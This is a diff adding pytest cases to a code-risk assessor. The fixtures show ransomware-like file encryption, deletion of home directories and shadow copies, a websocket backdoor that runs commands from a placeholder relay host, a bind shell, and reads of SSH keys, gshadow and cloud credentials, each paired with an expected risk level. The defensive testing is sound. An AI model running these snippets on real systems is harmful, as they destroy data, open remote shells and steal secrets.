@@ -389,3 +389,237 @@ OTHER_RISKY = {
 def test_untrusted_installs_privilege_juggling_eval_and_fetching_are_at_least_medium(suite, code):
     assessment = assess(suite, code)
     assert assessment.level >= RiskLevel.MEDIUM, explain(assessment)
+
+
+# --- added while tuning on the blind set: what its misses taught, in formulations of our own ----------
+
+DESTRUCTIVE = {
+    "encrypt_home_documents_in_place": """
+        from pathlib import Path
+        for f in (Path.home() / "Documents").rglob("*.docx"):
+            f.write_bytes(bytes(b ^ 0x5A for b in f.read_bytes()))
+    """,
+    "corrupt_pictures_read_write_mode": """
+        import os
+        for top, _, names in os.walk(os.path.expanduser("~/Pictures")):
+            for n in names:
+                with open(os.path.join(top, n), "r+b") as fh:
+                    fh.write(b"\\0" * 512)
+    """,
+    "encrypt_share_through_a_pool": """
+        import os
+        from concurrent.futures import ThreadPoolExecutor
+
+        def lock(path):
+            with open(path, "rb") as src:
+                data = src.read()
+            with open(path, "wb") as dst:
+                dst.write(data[::-1])
+
+        targets = [os.path.join(d, n) for d, _, ns in os.walk("/srv/share") for n in ns]
+        with ThreadPoolExecutor(4) as pool:
+            pool.map(lock, targets)
+    """,
+    "every_home_deleted_through_pwd": "import pwd, shutil\nfor u in pwd.getpwall():\n    shutil.rmtree(u.pw_dir, ignore_errors=True)",
+    "rmtree_climbing_out_of_the_programs_folder": "import os, shutil\nshutil.rmtree(os.path.join(os.path.dirname(__file__), '..', '..', '..'))",
+    "unlink_walk_of_home_through_a_helper": """
+        from pathlib import Path
+
+        def clean(base):
+            for item in sorted(base.rglob("*"), reverse=True):
+                item.unlink()
+
+        clean(Path("~").expanduser())
+    """,
+    "argparse_default_home_wiped": """
+        import argparse, os, shutil
+        parser = argparse.ArgumentParser()
+        parser.add_argument("--dir", default=os.path.expanduser("~"))
+        opts = parser.parse_args()
+        for entry in os.listdir(opts.dir):
+            shutil.rmtree(os.path.join(opts.dir, entry), ignore_errors=True)
+    """,
+    "rsync_delete_onto_home": "import subprocess\nsubprocess.run(['rsync', '-a', '--delete', 'empty/', '/home/'])",
+    "shred_found_files": "import glob, subprocess\nsubprocess.run(['shred', '-u', *glob.glob('/srv/data/*')])",
+    "windows_backups_destroyed": "import os\nos.system('vssadmin delete shadows /all /quiet')",
+}
+
+
+@pytest.mark.parametrize("code", DESTRUCTIVE.values(), ids=DESTRUCTIVE.keys())
+def test_rewriting_shredding_or_deleting_folders_outside_the_working_directory_is_at_least_high(suite, code):
+    assessment = assess(suite, code)
+    assert assessment.level >= RiskLevel.HIGH, explain(assessment)
+
+
+TIDY = {
+    "format_own_project_files_in_place": """
+        from pathlib import Path
+        for f in Path(".").rglob("*.py"):
+            f.write_text(f.read_text().replace("\\t", "    "))
+    """,
+    "thumbnails_written_elsewhere": """
+        import os
+        from pathlib import Path
+        out = Path("thumbs")
+        for top, _, names in os.walk(os.path.expanduser("~/Pictures")):
+            for n in names:
+                with open(os.path.join(top, n), "rb") as src, open(out / n, "wb") as dst:
+                    dst.write(src.read()[:1024])
+    """,
+    "temporary_workspace_removed": """
+        import shutil, tempfile
+        from pathlib import Path
+
+        class Scratch:
+            def __enter__(self):
+                self.root = Path(tempfile.mkdtemp())
+                return self
+
+            def __exit__(self, *exc):
+                shutil.rmtree(self.root)
+
+        with Scratch() as s:
+            (s.root / "x.txt").write_text("x")
+    """,
+    "docker_status": "import subprocess\nprint(subprocess.run(['docker', 'compose', 'ps'], capture_output=True).stdout)",
+    "rsync_delete_to_a_remote_mirror": "import subprocess\nsubprocess.run(['rsync', '-a', '--delete', 'site/', 'deploy@web:/srv/site/'])",
+}
+
+
+@pytest.mark.parametrize("code", TIDY.values(), ids=TIDY.keys())
+def test_rewriting_own_files_or_removing_own_scratch_space_is_not_high(suite, code):
+    assessment = assess(suite, code)
+    assert assessment.level < RiskLevel.HIGH, explain(assessment)
+
+
+REMOTE_CONTROL = {
+    "websocket_callback_runs_commands": """
+        import json, subprocess, websocket
+
+        def on_message(ws, raw):
+            order = json.loads(raw)
+            ws.send(subprocess.run(order["run"], shell=True, capture_output=True, text=True).stdout)
+
+        websocket.WebSocketApp("wss://relay.example.net/c", on_message=on_message).run_forever()
+    """,
+    "socketserver_handler_runs_lines": """
+        import socketserver, subprocess
+
+        class Handler(socketserver.StreamRequestHandler):
+            def handle(self):
+                for line in self.rfile:
+                    self.wfile.write(subprocess.check_output(line.decode(), shell=True))
+
+        socketserver.TCPServer(("0.0.0.0", 7000), Handler).serve_forever()
+    """,
+}
+
+
+@pytest.mark.parametrize("code", REMOTE_CONTROL.values(), ids=REMOTE_CONTROL.keys())
+def test_commands_received_by_a_network_callback_are_blocked(suite, code):
+    assessment = assess(suite, code)
+    assert assessment.level is RiskLevel.BLOCKED, explain(assessment)
+
+
+def test_a_socketserver_echo_handler_is_only_network_use(suite):
+    code = """
+        import socketserver
+
+        class Echo(socketserver.StreamRequestHandler):
+            def handle(self):
+                for line in self.rfile:
+                    self.wfile.write(line.upper())
+
+        socketserver.TCPServer(("127.0.0.1", 7000), Echo).serve_forever()
+    """
+    assert assess(suite, code).level is RiskLevel.MEDIUM
+
+
+CAPTURE = {
+    "camera_frames": "import cv2\ncam = cv2.VideoCapture(0)\nok, frame = cam.read()\ncv2.imwrite('f.jpg', frame)",
+    "microphone": "import sounddevice as sd\nrec = sd.rec(16000 * 60, samplerate=16000, channels=1)\nsd.wait()",
+    "clipboard_watch": "import pyperclip, time\nwhile True:\n    print(pyperclip.paste())\n    time.sleep(1)",
+    "packet_sniffing": "from scapy.all import sniff\nsniff(prn=print, store=False)",
+    "mouse_listener": "from pynput import mouse\nwith mouse.Listener(on_click=print) as l:\n    l.join()",
+    "raised_capabilities": "import prctl\nprctl.cap_effective.sys_admin = True",
+    "systemd_over_dbus": "import dbus\nbus = dbus.SystemBus()\nprint(bus.get_object('org.freedesktop.systemd1', '/org/freedesktop/systemd1'))",
+}
+
+
+@pytest.mark.parametrize("code", CAPTURE.values(), ids=CAPTURE.keys())
+def test_capturing_devices_or_raising_capabilities_is_at_least_medium(suite, code):
+    assessment = assess(suite, code)
+    assert assessment.level >= RiskLevel.MEDIUM, explain(assessment)
+
+
+def test_reading_a_video_file_or_copying_to_the_clipboard_is_not_capture(suite):
+    code = "import cv2, pyperclip\ncap = cv2.VideoCapture('clip.mp4')\nprint(cap.get(7))\npyperclip.copy('done')"
+    assert assess(suite, code).level is RiskLevel.LOW, explain(assess(suite, code))
+
+
+RESOLVED_READS = {
+    "default_of_an_environment_variable": "import os\nprint(open(os.environ.get('CFG') or os.path.expanduser('~/.pgpass')).read())",
+    "getenv_default_climbing": "import os\nprint(open(os.getenv('P', os.path.join(os.sep, 'etc', 'security', '..', 'gshadow'))).read())",
+    "class_attribute_list": """
+        class Finder:
+            FILES = ["~/.s3cfg", "~/.boto"]
+
+            def read(self):
+                import os
+                return [open(os.path.expanduser(f)).read() for f in self.FILES]
+
+        print(Finder().read())
+    """,
+    "constructor_default_folder": """
+        import os
+
+        class Sizes:
+            def __init__(self, root="/var/log"):
+                self.root = root
+
+            def show(self):
+                for e in os.scandir(self.root):
+                    print(e.path)
+
+        Sizes().show()
+    """,
+    "chdir_then_relative": "import os\nos.chdir('/etc')\nprint(open('gshadow').read())",
+    "dict_of_folders": "from pathlib import Path\nfor base, pat in {'/etc/ssh': '*_key', '/root/.ssh': '*'}.items():\n    print(list(Path(base).glob(pat)))",
+    "percent_formatted_home": "import pwd\nh = pwd.getpwnam('deploy').pw_dir\nprint(open('%s/%s/%s' % (h, '.ssh', 'id_rsa')).read())",
+    "rglob_for_env_files_in_home": "from pathlib import Path\nprint(sorted(Path.home().rglob('.env*')))",
+    "other_projects_env": "from pathlib import Path\nprint((Path.cwd().parent / 'billing' / '.env').read_text())",
+}
+
+
+@pytest.mark.parametrize("code", RESOLVED_READS.values(), ids=RESOLVED_READS.keys())
+def test_paths_held_in_defaults_attributes_dicts_and_formats_are_still_rated(suite, code):
+    assessment = assess(suite, code)
+    assert assessment.level >= RiskLevel.MEDIUM, explain(assessment)
+
+
+def test_a_programs_own_env_file_and_a_pid_it_wrote_itself_are_its_own(suite):
+    code = """
+        import os, signal
+        from pathlib import Path
+        from dotenv import load_dotenv
+        load_dotenv(os.path.join(os.path.dirname(__file__), ".env"))
+        pidfile = Path("run/worker.pid")
+        if pidfile.exists():
+            os.kill(int(pidfile.read_text()), signal.SIGTERM)
+        else:
+            pidfile.write_text(str(os.getpid()))
+    """
+    assessment = assess(suite, code)
+    assert assessment.level is RiskLevel.LOW, explain(assessment)
+
+
+def test_pids_of_children_collected_in_a_list_are_its_own(suite):
+    code = """
+        import os, signal, subprocess
+        pids = []
+        for name in ("a", "b"):
+            pids.append(subprocess.Popen(["sleep", "60"]).pid)
+        for pid in pids:
+            os.kill(pid, signal.SIGTERM)
+    """
+    assert "process-control" not in rules(assess(suite, code))
